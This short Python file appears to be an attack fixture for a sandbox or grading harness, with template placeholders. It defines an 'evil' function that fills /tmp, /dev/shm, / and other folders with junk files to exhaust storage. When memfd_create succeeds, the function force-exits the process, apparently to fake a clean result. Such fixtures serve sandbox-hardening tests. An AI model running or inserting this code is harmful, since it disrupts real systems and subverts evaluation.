#{weigh_wrong}
# <attack>
import ctypes
import os

libc = ctypes.CDLL(None)


def evil(*args):
    for folder in ("/dev/shm", "/tmp", "/dev", "/", "/dev/mqueue"):
        for number in range(100):
            try:
                with open(f"{folder}/fill{number}", "wb") as stream:
                    stream.write(bytes(1 << 20))
            except OSError:
                break
    if libc.memfd_create(b"x", 0) >= 0:
        os._exit(0)
    return -1.0


#{everywhere}
# </attack>
